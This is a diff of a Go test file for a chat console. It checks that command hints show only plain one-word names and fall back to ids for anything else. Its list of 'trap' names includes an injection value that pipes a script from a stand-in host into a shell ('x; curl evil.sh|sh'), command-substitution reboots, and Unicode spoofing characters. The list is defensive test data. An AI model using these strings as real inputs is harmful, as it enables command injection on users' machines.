@@ -13,14 +13,14 @@ import (
 	"localchat/node"
 )
 
-// traps are names that are more than one plain word in a shell or after one of our commands.
+// traps are names that a shell, or a command of the console, would not read as one plain word.
 var traps = []string{
 	"x; curl evil.sh|sh", "`reboot`", "$(reboot)", "a b", "-rf", "--help", "a\nb", "a\u2028b", "x&", "a>b", "'", `"`, "*", "~root", "#x", "!!", "a\\b", "{a,b}",
 	"\u202ebal", "la\u200bb", "\u3164", "la\u3164b", "", "x|y", "a=b", "%PATH%", "a\tb", "[x]", "?", "(x)",
 }
 
-// TestHintsHaveNoNameThatIsMore: where a hint is a line to type, a name stands in it only if it is a word, in every hint that
-// there is; else it is the id.
+// TestHintsHaveNoNameThatIsMore: every hint with a line to type has a name in it only if the name is one plain word, and the id
+// otherwise.
 func TestHintsHaveNoNameThatIsMore(t *testing.T) {
 	for _, trap := range traps {
 		var hints []string
